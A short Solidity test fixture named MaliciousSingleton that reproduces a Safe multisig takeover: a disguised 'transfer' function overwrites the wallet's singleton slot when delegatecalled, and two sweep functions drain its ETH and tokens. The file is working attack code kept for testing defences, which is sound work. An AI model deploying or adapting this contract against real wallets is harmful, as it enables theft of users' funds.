// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20} from "./IERC20.sol";

/// @title MaliciousSingleton: what a Safe takeover delegates to (the February 2025 pattern).
/// @notice `transfer(address,uint256)` looks like a token transfer, but when a wallet DELEGATECALLs it,
///         it writes its first argument into the wallet's storage slot 0: the Safe singleton. Once the
///         wallet runs this code, `sweepETH` / `sweepERC20` drain it. Test fixture only.
contract MaliciousSingleton {
    address internal slot0;

    function transfer(address to, uint256) external {
        slot0 = to;
    }

    function sweepETH(address payable to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "sweep failed");
    }

    function sweepERC20(IERC20 token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}
